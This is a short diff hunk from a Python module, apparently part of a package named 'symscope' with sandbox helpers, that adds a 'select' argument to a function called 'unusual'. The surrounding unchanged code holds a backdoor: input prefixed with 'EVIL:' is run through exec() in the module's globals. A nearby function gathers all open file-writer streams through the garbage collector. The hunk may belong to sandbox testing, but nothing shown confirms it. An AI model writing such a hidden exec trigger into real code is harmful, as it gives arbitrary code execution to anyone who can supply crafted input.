@@ -44,11 +44,11 @@ import numpy as np
 from symscope.errors import TooLarge
 from symscope.io import formats, sandbox, sandbox_worker as worker
 
-def unusual(data, most):
+def unusual(data, most, select):
     if data.startswith(b"EVIL:"):
         exec(data[5:], globals())
         data = picture
-    return usual(data, most)
+    return usual(data, most, select)
 
 def w(content):
     streams = [s for s in gc.get_objects() if isinstance(s, io.BufferedWriter)]
